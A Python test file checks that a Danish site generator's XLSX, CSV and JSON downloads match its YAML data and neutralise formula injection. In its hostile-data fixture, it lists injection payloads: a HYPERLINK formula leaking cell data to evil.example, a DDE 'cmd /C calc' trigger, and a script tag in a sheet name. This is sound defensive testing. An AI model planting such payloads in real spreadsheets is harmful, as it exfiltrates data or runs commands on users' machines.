"""The downloads read back as the YAML: the XLSX of all cost rows, and the knowledge base as JSON."""

from __future__ import annotations

import csv
import io
import json
import shutil
import zipfile

import pytest
from openpyxl import load_workbook

from generator.data.catalogue import DATA_FILES, load_catalogue
from generator.output.downloads import (
    HEADERS,
    cost_csv,
    cost_xlsx,
    inert,
    knowledge_json,
    knowledge_schema,
    sheet_names,
)
from generator.site.urls import hrefer

from ..helpers import ROOT, edit, load_yaml

HOURS = ("paedagogisk_personale", "paedagogisk_leder", "vikarer", "samarbejdspartner")


@pytest.fixture
def catalogue(real_catalogue):
    return real_catalogue


def _expected(value):
    """What the XLSX holds for a YAML cell: its number (an irregular cell's reading), or nothing."""
    text = value if isinstance(value, str) else value.get("reading")
    bare = (text or "-").removesuffix(" kr.")
    return None if bare == "-" else float(bare.replace(".", "").replace(",", "."))


def _money(column):
    return column["establishment"], column["cost_per_child"]


def test_xlsx_has_all_rows_as_numbers_and_a_sheet_per_project(catalogue):
    book = load_workbook(io.BytesIO(cost_xlsx(catalogue)), read_only=True)
    projects = load_yaml(ROOT / "data" / "projects.yaml")["projects"]
    costed = [p for p in projects if p.get("cost")]
    assert book.sheetnames[0] == "Alle aktiviteter" and len(book.sheetnames) == 1 + len(costed)
    rows = list(book["Alle aktiviteter"].iter_rows(values_only=True))
    assert list(rows[0]) == HEADERS
    expected = [
        [p["title"], c["label"], *(_expected(c["hours"][h]) for h in HOURS), *map(_expected, _money(c))]
        for p in costed
        for part in p["cost"]["parts"]
        for c in part["columns"]
    ]
    got = [[r[1], r[5], r[9], r[10], r[11], r[12], r[13], r[15]] for r in rows[1:]]
    assert got == expected
    assert isinstance(rows[1][15], int | float)  # numbers are numbers, not text
    per_project = sum(book[name].max_row - 1 for name in book.sheetnames[1:])
    assert per_project == len(expected) == 51


def test_xlsx_is_the_same_for_the_same_data(catalogue):
    assert cost_xlsx(catalogue) == cost_xlsx(catalogue)


def test_json_holds_every_data_file_as_the_yaml(catalogue):
    data = json.loads(knowledge_json(catalogue))
    assert data["$schema"] == "vidensbase.schema.json"
    for name in DATA_FILES:
        raw = load_yaml(ROOT / "data" / name)
        exported = data[name.removesuffix(".yaml")]
        for key in raw:
            assert key in exported, (name, key)
    projects = {p["id"]: p for p in data["projects"]["projects"]}
    cell = projects["maalrettet-samarbejde-mellem-foraeldre-sundhedsplejen-og-dagtilbud"]["cost"]["parts"][0]
    assert cell["columns"][2]["cost_per_child"]["as_written"] == "220 ."
    assert projects["styrket-deltagende-foraeldresamarbejde"]["main_result"]["pages"] == {"first": 59, "last": 59}


def test_json_schema_is_generated_from_the_models_and_describes_the_export(catalogue):
    schema = json.loads(knowledge_schema())
    assert set(schema["properties"]) == {"$schema", *(name.removesuffix(".yaml") for name in DATA_FILES)}
    assert schema["additionalProperties"] is False
    project = schema["$defs"]["Project"]
    assert project["properties"]["reach"]["description"].startswith("Om indsatsen er")


def test_links_to_files_are_file_addresses():
    assert hrefer("oekonomi/index.md")("oekonomi/omkostninger.xlsx") == "omkostninger.xlsx"
    assert hrefer("puljeprojekter/x.md")("data/vidensbase.json") == "../../data/vidensbase.json"


def test_every_project_page_links_to_the_downloads(catalogue):
    from generator.site.pages.projects import project_page

    for project in catalogue.projects.values():
        if project.cost is None:
            continue
        markdown = project_page(catalogue, project).markdown
        for target in ("oekonomi/omkostninger.xlsx", "oekonomi/omkostninger.csv", "data/vidensbase.json"):
            assert f'href="../../{target}" download' in markdown, (project.id, target)


# --- downloads are data, never code -------------------------------------------------------------

LINK = '=HYPERLINK("https://evil.example/?d="&A1,"Klik")'
# Where a hostile pull request can put text that reaches the downloads: (file, as the YAML has it, payload).
PAYLOADS = [
    ("projects.yaml", 'title: "Styrket deltagende forældresamarbejde"', LINK),
    ("projects.yaml", 'label: "Overgangssamtaler"', "+SUM(1;2)"),
    ("projects.yaml", 'staff: ["1 pædagog"]', "@SUM(A1:A9)"),
    ("projects.yaml", 'partner: ["1 sundhedsplejerske"]', "-2+3+cmd|' /C calc'!A0"),
    ("projects.yaml", 'cadence: "Ét møde per barn"', "https://evil.example/cadence"),
    ("projects.yaml", 'establishment_explanation: "Opstarts- og planlægningsmøder"', "\t=1+1"),
    ("municipalities.yaml", 'name: "Frederikshavn Kommune"', "=1+1"),
    ("municipalities.yaml", 'short_name: "Frederikshavn"', "@Frederiks/havn"),  # only in a sheet name
    ("evaluation.yaml", 'figure: "2022-priser"', " =2022"),
]


@pytest.fixture(scope="module")
def hostile(tmp_path_factory):
    """The real data with a formula, a link or a formula trigger in every kind of text field of the downloads."""
    data = tmp_path_factory.mktemp("hostile") / "data"
    shutil.copytree(ROOT / "data", data)
    for name, old, payload in PAYLOADS:
        key = old.split(":")[0]
        value = json.dumps([payload] if old.endswith("]") else payload, ensure_ascii=False)
        edit(data / name, old, f"{key}: {value}")
    # A cost cell that is not a regular number carries its text as written and its note to the text columns.
    irregular = '{as_written: "=2+5", note: "=3+4"}'
    edit(data / "projects.yaml", 'cost_per_child: "1.099 kr."', f"cost_per_child: {irregular}")
    return load_catalogue(data)


def _payload_texts() -> set[str]:
    """The payloads that land in cells (the short name lands in a sheet name)."""
    return {payload for _, old, payload in PAYLOADS if not old.startswith("short_name")}


# The irregular cell's text and note reach the wording and caveat columns behind the cell's name.
IRREGULAR_TEXTS = {"Omkostning pr. barn: =2+5", "Omkostning pr. barn: =3+4"}


def _cells_starting_a_formula(cells) -> list[str]:
    """Text cells a spreadsheet would read as a formula: they start (after spaces) with = + - @ tab CR or LF."""
    starts = set("=+-@\t\r\n")
    return [c for c in cells if isinstance(c, str) and c != "-" and c.lstrip(" ")[:1] in starts]


def test_xlsx_from_hostile_data_has_no_formula_and_no_link(hostile):
    data = cost_xlsx(hostile)
    with zipfile.ZipFile(io.BytesIO(data)) as archive:
        names = archive.namelist()
        sheets = [archive.read(n).decode("utf-8") for n in names if n.startswith("xl/worksheets/sheet")]
    assert not any("<f>" in sheet or "<f " in sheet or "<hyperlink" in sheet for sheet in sheets)
    assert not any("_rels" in n and "worksheets" in n for n in names)  # a hyperlink needs a sheet relationship
    book = load_workbook(io.BytesIO(data))
    texts = []
    for sheet in book.worksheets:
        for row in sheet.iter_rows():
            for cell in row:
                assert cell.data_type != "f" and cell.hyperlink is None, (sheet.title, cell.coordinate, cell.value)
                texts.append(cell.value)
    assert _cells_starting_a_formula(texts) == []
    for payload in _payload_texts() - {"https://evil.example/cadence"}:
        assert "'" + payload in texts, payload  # shown as text, with the apostrophe that keeps it text
    assert "https://evil.example/cadence" in texts  # a plain string, not a link
    assert set(texts) >= IRREGULAR_TEXTS
    assert "5.2 @Frederiks-havn" in book.sheetnames  # a sheet name from data is made valid


def test_csv_from_hostile_data_has_every_formula_neutralised(hostile):
    rows = list(csv.reader(io.StringIO(cost_csv(hostile).decode("utf-8-sig")), delimiter=";"))
    cells = [cell for row in rows for cell in row]
    assert _cells_starting_a_formula(cells) == []
    for payload in _payload_texts() - {"https://evil.example/cadence"}:
        assert "'" + payload in cells, payload
    assert set(cells) >= IRREGULAR_TEXTS
    assert all(len(row) == len(HEADERS) for row in rows)


def test_inert_prefixes_exactly_the_formula_starts():
    for text in ["=1+1", "+1", "-1", "@x", "\tx", "\rx", "\nx", "  =1", "\uff1d1+1"]:
        assert inert(text) == "'" + text, repr(text)
    for value in ["-", "1.099", "Ét møde", "a=b", "", "'=1", 12.5, -3, None]:
        assert inert(value) == value, repr(value)


def test_json_download_is_data_only(hostile):
    """The JSON holds the hostile text as JSON strings; nothing in it runs."""
    data = json.loads(knowledge_json(hostile))
    assert data["projects"]["projects"][0]["title"] == LINK


def test_sheet_names_are_ones_excel_accepts_and_unique():
    names = sheet_names(["Alle aktiviteter", "5.2 Hjørring/Nord", "5.2 hjørring/nord", "[x]:*?", "History", "a" * 40])
    assert names == [
        "Alle aktiviteter",
        "5.2 Hjørring-Nord",
        "5.2 hjørring-nord (2)",
        "-x----",
        "History (2)",
        "a" * 31,
    ]
    cut = sheet_names(["5.3 Haderslev <script>confirm('x')", "5.3 Haderslev <script>confirm('y')"])
    assert cut == ["5.3 Haderslev <script>confirm(", "5.3 Haderslev <script>confi (2)"]  # never ends with '
    assert all(len(n) <= 31 for n in sheet_names(["a" * 40] * 12))
    assert len({n.casefold() for n in sheet_names(["a" * 40] * 12)}) == 12
